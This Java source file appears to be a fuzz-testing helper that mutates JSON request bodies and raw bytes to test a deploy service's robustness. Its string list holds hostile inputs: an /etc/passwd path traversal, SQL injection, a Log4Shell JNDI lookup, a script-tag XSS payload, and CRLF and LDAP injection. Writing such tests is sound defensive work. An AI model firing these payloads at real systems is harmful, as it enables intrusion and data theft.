package dev.handover.deploy.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.random.RandomGenerator;

/** Ways to make something wrong of something right. */
final class Spoiling {
  private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
  private static final int DEEP = 6000;

  /** Each has broken some service somewhere. */
  private static final List<String> NASTY =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "..",
          "../../../../etc/passwd",
          "%2e%2e%2f",
          "mail%00",
          "mail;v=1",
          "mail/",
          "*)(objectClass=*",
          "CN=a\\,b+O=c",
          "'; DROP TABLE operation; --",
          "${jndi:ldap://192.0.2.1/a}",
          "${java.version}",
          "<script>alert(1)</script>",
          "a\r\nX-Injected: yes",
          "line\nbreak\u2028and\u2029more",
          "\u202eesrever",
          "\ud83d\udca9",
          "\ud800",
          "\u0130stanbul \u1e9e \ufb01",
          "e\u0301".repeat(40),
          "-1",
          "0",
          "9223372036854775808",
          "1e400",
          "NaN",
          "null",
          "true",
          "[]",
          "{}",
          "con",
          "\\\\?\\C:\\x",
          "x".repeat(2_000),
          "00000000-0000-0000-0000-000000000000",
          "ffffffff-ffff-ffff-ffff-ffffffffffff",
          "P999999999D",
          "+292278994-08-17T07:12:55.807Z",
          "-999999999-01-01T00:00:00Z",
          "*",
          "\"",
          "W/\"1\"",
          "wait=99999999999",
          "wait=-1");

  private final RandomGenerator random;

  Spoiling(RandomGenerator random) {
    this.random = random;
  }

  /** A text that nobody expects. */
  String text() {
    return NASTY.get(random.nextInt(NASTY.size()));
  }

  /** The same body with one of its values changed, taken away or added. */
  JsonNode value(JsonNode body) {
    List<JsonNode> inner = new ArrayList<>();
    collect(body, inner);
    if (inner.isEmpty()) {
      return nasty();
    }
    JsonNode chosen = inner.get(random.nextInt(inner.size()));
    if (chosen instanceof ArrayNode array) {
      spoil(array);
    } else if (chosen instanceof ObjectNode object) {
      spoil(object);
    }
    return body;
  }

  private void spoil(ArrayNode array) {
    if (!array.isEmpty() && random.nextBoolean()) {
      array.set(random.nextInt(array.size()), nasty());
      return;
    }
    int count = random.nextInt(4) == 0 ? 1_500 : 1;
    JsonNode added = array.isEmpty() ? nasty() : array.get(0);
    for (int i = 0; i < count; i++) {
      array.add(added);
    }
  }

  private void spoil(ObjectNode object) {
    List<String> names = new ArrayList<>();
    object.fieldNames().forEachRemaining(names::add);
    if (names.isEmpty() || random.nextInt(6) == 0) {
      object.set(random.nextBoolean() ? "unknown" : text(), nasty());
      return;
    }
    String name = names.get(random.nextInt(names.size()));
    if (random.nextInt(4) == 0) {
      object.remove(name);
    } else {
      object.set(name, nasty());
    }
  }

  private static void collect(JsonNode node, List<JsonNode> inner) {
    if (node.isContainerNode()) {
      inner.add(node);
      node.forEach(child -> collect(child, inner));
    }
  }

  private JsonNode nasty() {
    return switch (random.nextInt(12)) {
      case 0 -> JSON.nullNode();
      case 1 -> JSON.booleanNode(true);
      case 2 -> JSON.numberNode(BigInteger.TEN.pow(400));
      case 3 -> JSON.numberNode(-1);
      case 4 -> JSON.numberNode(1e308);
      case 5 -> JSON.numberNode(Long.MIN_VALUE);
      case 6 -> JSON.arrayNode().add(JSON.arrayNode());
      case 7 -> JSON.objectNode().put("a", "b");
      case 8 -> JSON.textNode("x".repeat(200_000));
      default -> JSON.textNode(text());
    };
  }

  /** The bytes of a body, broken as no JSON writer would break them. */
  byte[] bytes(byte[] body) {
    return switch (random.nextInt(10)) {
      case 0 -> new byte[0];
      case 1 -> Arrays.copyOf(body, body.length / 2);
      case 2 -> ("[".repeat(DEEP) + "]".repeat(DEEP)).getBytes(StandardCharsets.UTF_8);
      case 3 -> ("{\"a\":".repeat(DEEP) + "1" + "}".repeat(DEEP)).getBytes(StandardCharsets.UTF_8);
      case 4 -> flipped(body);
      case 5 -> new byte[1_048_577];
      case 6 -> "null".getBytes(StandardCharsets.UTF_8);
      case 7 ->
          ("\ufeff" + new String(body, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_16);
      case 8 -> twice(body);
      default -> (new String(body, StandardCharsets.UTF_8) + "{}").getBytes(StandardCharsets.UTF_8);
    };
  }

  private byte[] flipped(byte[] body) {
    byte[] changed = body.clone();
    for (int i = 0; i < 4 && changed.length > 0; i++) {
      changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
    }
    return changed;
  }

  /** The properties of an object, and all of them again. */
  private static byte[] twice(byte[] body) {
    String text = new String(body, StandardCharsets.UTF_8);
    return text.length() > 2 && text.startsWith("{")
        ? (text.substring(0, text.length() - 1) + "," + text.substring(1))
            .getBytes(StandardCharsets.UTF_8)
        : body;
  }
}
